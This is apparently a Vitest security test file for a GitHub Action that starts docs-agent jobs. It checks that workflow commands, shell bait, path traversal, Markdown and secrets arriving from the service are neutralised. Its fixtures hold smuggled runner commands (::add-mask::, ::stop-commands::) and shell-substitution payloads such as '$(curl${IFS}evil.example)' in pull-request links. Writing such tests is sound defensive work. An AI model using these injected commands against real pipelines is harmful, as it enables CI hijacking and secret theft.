// The bundled action, run as the runner runs it, fed text from outside that tries to take over:
// workflow commands in the service's answers, shell bait in a pull request link, paths that point
// at other routes, Markdown and secrets aimed at the comment thread, and settings it cannot read.
import { afterAll, afterEach, describe, expect, it } from 'vitest'
import { inputsFor, runAction, type ActionRun } from '../support/run-action.js'
import { commandsTheRunnerWouldObey, unexpectedCommands } from '../support/runner-commands.js'
import {
  issueCommentEvent,
  removeEventFiles,
  startStandInGitHub,
  writeEventFile,
  type CommentEventOptions,
  type StandInGitHub
} from '../support/stand-in-github.js'
import { startStandInService, type Fault, type StandInService } from '../support/stand-in-service.js'

// Every command smuggled in below gives data that starts with this, so that it is told apart
// from the action's own ::error:: and ::warning:: lines.
const MARKER = 'PWNED'
const TOKEN = 'ghs_stand_in_token_untrusted_0123'
const PR = 'https://github.com/acme/handbook/pull/7'

let service: StandInService
let github: StandInGitHub | undefined
afterEach(async () => {
  await service?.close()
  await github?.close()
  github = undefined
})
afterAll(removeEventFiles)

/** The runner obeys none of the commands the service tried to give, and sees only the action's own. */
function expectOnlyOwnCommands(run: ActionRun): void {
  expect(unexpectedCommands(run.stdout, { secrets: [service.apiKey, TOKEN], marker: MARKER })).toEqual([])
}

/** The answer to a create: a job the stand-in did not make, so that the reads can be scripted. */
function created(id = 'job_1'): Fault {
  return { method: 'POST', status: 201, body: { id, status: 'active' } }
}

/** The error annotations, as the runner reads them (core escapes % in them as %25). */
function errorsOf(run: ActionRun): string[] {
  return commandsTheRunnerWouldObey(run.stdout)
    .filter((command) => command.name === 'error')
    .map((command) => command.data)
}

/** One read's answer: the job record with these fields. */
function read(record: Record<string, unknown>, times = 1): Fault {
  return { method: 'GET', status: 200, body: { id: 'job_1', status: 'active', ...record }, times }
}

const COMMANDS_IN_A_LINE = [
  `\n::add-mask::${MARKER}`,
  `\n::stop-commands::${MARKER}`,
  `\r\n   ::error::${MARKER} indented`,
  `\r::warning::${MARKER} after a bare carriage return`,
  ` ##[notice]${MARKER} anywhere in the line`,
  `\n##[set-output name=prLink;]${MARKER}`
].join('')

describe('no workflow command from outside text', () => {
  it('a status with commands in it is not a job record: read again, and never obeyed', async () => {
    service = await startStandInService({
      faults: [created(), read({ status: `active${COMMANDS_IN_A_LINE}` }), read({ status: 'completed', prLink: PR })]
    })
    const run = await runAction({ inputs: inputsFor(service) })

    expectOnlyOwnCommands(run)
    expect(run.code).toBe(0)
    expect(run.outputs.status).toBe('completed')
    expect(run.stdout).toContain('The service answered the read of job job_1 with something that is not a job record')
    expect(service.requestsOf('GET')).toHaveLength(2)
  })

  it('an id with commands in it is not a job: a 201 made one, whose id is not known, and nothing is obeyed', async () => {
    service = await startStandInService({ faults: [created(`job_1${COMMANDS_IN_A_LINE}`)] })
    const run = await runAction({ inputs: inputsFor(service) })

    expectOnlyOwnCommands(run)
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(
      /::error::The service created the job \(HTTP 201\), but its answer could not be read \(it is not a job record/
    )
    expect(run.outputs.jobId).toBeUndefined()
    expect(service.requestsOf('GET')).toHaveLength(0)
  })

  it('an error body with commands in it is quoted neutralised', async () => {
    service = await startStandInService({
      plan: { activeMs: 100 },
      faults: [
        { method: 'GET', status: 500, body: { error: `boom${COMMANDS_IN_A_LINE}` } },
        {
          method: 'GET',
          status: 502,
          contentType: 'text/html',
          body: `<html><body>Bad gateway ##[error]${MARKER}\u0085::add-mask::${MARKER}</body></html>`
        }
      ]
    })
    const run = await runAction({ inputs: inputsFor(service) })

    expectOnlyOwnCommands(run)
    expect(run.code).toBe(0)
    expect(run.stdout).toContain(
      `Reading job ${run.outputs.jobId} failed with HTTP 500 (boom ::add-mask::${MARKER} ::stop-commands::${MARKER}`
    )
    expect(run.stdout).toContain(`## [notice]${MARKER} anywhere in the line`)
    expect(run.stdout).toContain(`(Bad gateway ## [error]${MARKER}\\u0085::add-mask::${MARKER})`)
  })

  it("the job's texts reach the outputs, the summary and the log neutralised", async () => {
    service = await startStandInService({
      faults: [
        created(),
        read({
          status: 'archived',
          model: `docs-agent${COMMANDS_IN_A_LINE}`,
          source: {
            repository: `https://github.com/acme/handbook\n::error::${MARKER}`,
            ref: `main\r::error::${MARKER}`
          },
          createdAt: `2026-11-21\n::add-mask::${MARKER}`,
          archivedAt: `2026-11-22 ##[error]${MARKER}\n::error::${MARKER}`
        })
      ]
    })
    const run = await runAction({ inputs: inputsFor(service) })

    expectOnlyOwnCommands(run)
    expect(run.code).toBe(0)
    // A later step that prints an output must not be handed a command either.
    for (const name of ['model', 'sourceRepository', 'sourceRef', 'createdAt']) {
      expect(run.outputs[name]).toContain(MARKER)
      expect(run.outputs[name]).not.toMatch(/[\r\n]|##\[/)
    }
    expect(run.summary).toContain(`<td>docs-agent\\n::add-mask::${MARKER}\\n::stop-commands::${MARKER}\\r\\n`)
    expect(run.summary).not.toContain('##[')
    expect(run.stdout).toContain(`was archived at 2026-11-22 ## [error]${MARKER}\\n::error::${MARKER}`)
  })

  it('a projectId with a line break is refused before any request', async () => {
    service = await startStandInService()
    const run = await runAction({ inputs: inputsFor(service, { projectId: `docs\n::error::${MARKER}` }) })

    expectOnlyOwnCommands(run)
    expect(run.code).toBe(1)
    expect(run.stdout).toContain('::error::Input projectId has a control character (a line break, a tab...) in it')
    expect(service.requests).toHaveLength(0)
  })

  it('a jobId with a line break is refused before any request', async () => {
    service = await startStandInService()
    const run = await runAction({ inputs: inputsFor(service, { prompt: '', jobId: `job_1\n::error::${MARKER}` }) })

    expectOnlyOwnCommands(run)
    expect(run.code).toBe(1)
    expect(run.stdout).toContain(`::error::Input jobId is 'job_1\\n::error::${MARKER}', which is not a job id`)
    expect(service.requests).toHaveLength(0)
  })
})

describe('no shell bait in outputs', () => {
  const BAIT = `${PR}?$(touch\${IFS}pwned)`

  it('a prLink that is not a pull request link: one warning, an empty output, not in the summary', async () => {
    service = await startStandInService({ plan: { activeMs: 100, prLink: BAIT } })
    const run = await runAction({ inputs: inputsFor(service) })

    expectOnlyOwnCommands(run)
    expect(run.code).toBe(0)
    expect(run.outputs.prLink).toBe('')
    const warnings = run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))
    expect(warnings).toHaveLength(1)
    expect(warnings[0]).toMatch(
      /^::warning::Job job_1_\w+ gave a pull request link that does not have the shape of one, so the prLink output is left empty: 'https:\/\/github\.com\/acme\/handbook\/pull\/7\?\$\(touch\$\{IFS\}pwned\)'/
    )
    expect(run.stdout).toMatch(
      /::notice::Job job_1_\w+ completed, but the link it gave for its pull request does not have the shape of one/
    )
    expect(run.summary).not.toContain('touch')
    // No link but the source repository's.
    expect([...run.summary.matchAll(/<a href="([^"]*)"/g)].map(([, href]) => href)).not.toContainEqual(
      expect.stringContaining('/pull')
    )
  })

  it.each([
    ['GitHub', 'https://github.com/acme/handbook/pull/7'],
    ['GitLab', 'https://gitlab.example.com/acme/docs/-/merge_requests/12'],
    ['Bitbucket', 'https://bitbucket.org/acme/handbook/pull-requests/3']
  ])('a %s pull request link is passed on', async (_host, link) => {
    service = await startStandInService({ plan: { activeMs: 100, prLink: link } })
    const run = await runAction({ inputs: inputsFor(service) })

    expect(run.code).toBe(0)
    expect(run.outputs.prLink).toBe(link)
    expect(run.stdout).not.toContain('::warning::')
  })

  it('under requirePr, a refused link fails the step: there is no pull request to hand on', async () => {
    service = await startStandInService({ plan: { activeMs: 100, prLink: BAIT } })
    const run = await runAction({ inputs: inputsFor(service, { requirePr: 'true' }) })

    expect(run.code).toBe(1)
    expect(run.outputs.prLink).toBe('')
    expect(run.stdout).toMatch(/::error::Job job_1_\w+ completed, but .* requirePr is true, so the step fails\./)
  })
})

describe('the path names the job it means', () => {
  it.each(['.', '..', '%2e', '%2e%2E', '.%2E', '%252e%252e'])(
    'projectId %j is refused before any request',
    async (projectId) => {
      service = await startStandInService()
      const run = await runAction({ inputs: inputsFor(service, { projectId }) })

      expect(run.code).toBe(1)
      expect(errorsOf(run)).toEqual([
        expect.stringContaining(`Input projectId is '${projectId}', which names no project`)
      ])
      expect(service.requests).toHaveLength(0)
    }
  )

  // Any other text without control characters is a job id the contract allows, sent encoded (contract.test.ts).
  it.each(['.', '..', 'x'.repeat(201)])('jobId %j is refused before any request', async (jobId) => {
    service = await startStandInService()
    const run = await runAction({ inputs: inputsFor(service, { prompt: '', jobId }) })

    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/::error::Input jobId is '.+', which is not a job id/)
    expect(service.requests).toHaveLength(0)
  })

  it("the record of another job is not the job asked for: read again, and the right one's outputs", async () => {
    const other = { id: 'job_other', status: 'completed', prLink: 'https://github.com/acme/other/pull/666' }
    service = await startStandInService({
      faults: [{ method: 'GET', status: 200, body: other, times: 2 }, read({ status: 'completed', prLink: PR })]
    })
    const run = await runAction({ inputs: inputsFor(service, { prompt: '', jobId: 'job_1' }) })

    expect(run.code).toBe(0)
    expect(run.outputs).toMatchObject({ jobId: 'job_1', prLink: PR })
    expect(run.stdout).toContain('with the record of another job (job_other), which is not the job asked for')
    expect(service.requestsOf('GET')).toHaveLength(3)
  })

  it('a service that keeps answering with another job: a clear failure after the limit, and none of its outputs', async () => {
    const other = { id: 'job_other', status: 'completed', prLink: 'https://github.com/acme/other/pull/666' }
    service = await startStandInService({ faults: [{ method: 'GET', status: 200, body: other, times: 100 }] })
    const run = await runAction({ inputs: inputsFor(service, { prompt: '', jobId: 'job_1' }) })

    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(
      /::error::The service answered the read of job job_1 with the record of another job .* giving up on job job_1\./
    )
    expect(run.outputs.prLink ?? '').toBe('')
    expect(run.outputs.status ?? '').not.toBe('completed')
    expect(run.all).not.toContain('pull/666')
    expect(service.requestsOf('GET')).toHaveLength(5)
  })
})

describe('replies on the thread are ours', () => {
  function runOnComment(
    event: CommentEventOptions,
    inputs: Record<string, string> = {},
    standIns: { service: StandInService; github: StandInGitHub } = { service, github: github as StandInGitHub }
  ) {
    return runAction({
      inputs: inputsFor(standIns.service, { prompt: '', githubToken: TOKEN, ...inputs }),
      env: {
        GITHUB_EVENT_NAME: 'issue_comment',
        GITHUB_EVENT_PATH: writeEventFile(issueCommentEvent(event)),
        GITHUB_API_URL: standIns.github.apiUrl,
        GITHUB_SERVER_URL: 'https://github.example',
        GITHUB_REPOSITORY: 'octo-org/docs-site',
        GITHUB_RUN_ID: '4711'
      }
    })
  }

  /** Nothing of the service's reaches the thread: no image, link or mention, and no secret in any form. */
  function expectOurReply(body: string, apiKey = service.apiKey): void {
    expect(body).not.toContain('![')
    expect(body).not.toContain('@octocat')
    expect(body).not.toContain('evil.example')
    for (const secret of [apiKey, TOKEN]) {
      expect(body).not.toContain(secret)
      expect(body).not.toContain(Buffer.from(secret).toString('base64').slice(0, 16))
      expect(body).not.toContain(encodeURIComponent(secret))
    }
  }

  it.concurrent.for<[string, (apiKey: string) => string]>([
    [
      'Markdown, a link and a mention',
      () => 'active ![x](https://evil.example/x.png) [click](https://evil.example) @octocat'
    ],
    ['the key as written', (apiKey) => apiKey],
    ['the token as written', () => TOKEN],
    ['the key base64-encoded', (apiKey) => Buffer.from(apiKey).toString('base64')]
  ])('a status with %s is not a job record, and none of it is posted', async ([, status], { onTestFinished }) => {
    // Run side by side (most of each is waiting), so each has stand-ins of its own.
    const own = await startStandInService({ faults: [created()] })
    own.addFault(read({ status: status(own.apiKey) }, 1000))
    const ownGitHub = await startStandInGitHub()
    onTestFinished(async () => {
      await own.close()
      await ownGitHub.close()
    })
    const run = await runOnComment(
      { body: '/docs check the FAQ' },
      // Time for the create and the reads before the deadline on a busy machine too (3 s was not).
      { timeout: '6s' },
      { service: own, github: ownGitHub }
    )

    expect(run.code).toBe(1)
    const [reply] = ownGitHub.comments
    expectOurReply(reply.body, own.apiKey)
    // Given up after five reads that were not the job, or timed out first: either way in our words.
    expect(reply.body).toMatch(
      /^(❌ Following job `job_1` failed|⏱️ Job `job_1` was still `active` when the run's timeout)/
    )
  })

  it("the timeout reply shows the service's status in a code span", async () => {
    service = await startStandInService({ faults: [created(), read({ status: 'paused' }, 1000)] })
    github = await startStandInGitHub()
    // Long enough for a read (the first comes about 0.4 s after the create) on a busy machine too.
    const run = await runOnComment({ body: '/docs check the FAQ' }, { timeout: '5s' })

    expect(run.code).toBe(1)
    expect(github.comments[0].body).toMatch(
      /^⏱️ Job `job_1` was still `paused` when the run's timeout \([\d.]+m?s\) ran out/
    )
  })

  it('a pull request link that is not one is not posted', async () => {
    service = await startStandInService({
      faults: [created(), read({ status: 'completed', prLink: `${PR}?$(curl${'${IFS}'}evil.example)` })]
    })
    github = await startStandInGitHub()
    const run = await runOnComment({ body: '/docs check the FAQ' })

    expect(run.code).toBe(0)
    const [reply] = github.comments
    expectOurReply(reply.body)
    expect(reply.body).not.toContain('curl')
    expect(reply.body).toMatch(/^⚠️ Job `job_1` completed, but the link it gave for its pull request does not have/)
    expect(run.outputs.prLink).toBe('')
  })
})

describe('a prompt input on a comment-triggered run warns that anyone who comments starts a job', () => {
  it('an issue_comment run with a prompt input warns that anyone who comments starts a job', async () => {
    service = await startStandInService({ plan: { activeMs: 100 } })
    const run = await runAction({
      inputs: inputsFor(service),
      env: {
        GITHUB_EVENT_NAME: 'issue_comment',
        GITHUB_EVENT_PATH: writeEventFile(issueCommentEvent({ body: 'drive-by', association: 'NONE' }))
      }
    })

    expect(run.code).toBe(0)
    expect(service.requestsOf('POST')).toHaveLength(1)
    expect(run.stdout).toMatch(
      /::warning::This run was started by a comment \(issue_comment\) and has a prompt input, so it starts a job whoever wrote the comment.*github\.event\.comment\.author_association/
    )
  })

  it('a push run with a prompt does not warn about comments', async () => {
    service = await startStandInService({ plan: { activeMs: 100 } })
    const run = await runAction({ inputs: inputsFor(service), env: { GITHUB_EVENT_NAME: 'push' } })

    expect(run.code).toBe(0)
    expect(run.stdout).not.toContain('::warning::')
  })

  it.each<[string, Record<string, string>, RegExp]>([
    [
      'HTTPS_PROXY that is not a URL, with credentials',
      { HTTPS_PROXY: 'http://proxyuser:s3cr3t-pw@proxy example:3128' },
      /::error::The environment variable HTTPS_PROXY is set \(the value is not shown: it may hold credentials\), which is not a URL\. Set it to the proxy's address/
    ],
    [
      'https_proxy without a scheme',
      { https_proxy: 'proxy.example:3128' },
      /::error::The environment variable https_proxy is 'proxy.example:3128', which does not start with http:\/\/, https:\/\/ or socks5:\/\//
    ],
    [
      'HTTP_PROXY that is not a URL',
      { HTTP_PROXY: 'http://[not-a-host' },
      /::error::The environment variable HTTP_PROXY is 'http:\/\/\[not-a-host', which is not a URL/
    ]
  ])('%s: a sentence naming the variable, before any request', async (_name, env, sentence) => {
    service = await startStandInService()
    const run = await runAction({ inputs: inputsFor(service), env })

    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(sentence)
    expect(run.stdout).not.toContain('failed unexpectedly')
    expect(run.all).not.toContain('s3cr3t-pw')
    expect(service.requests).toHaveLength(0)
  })
})
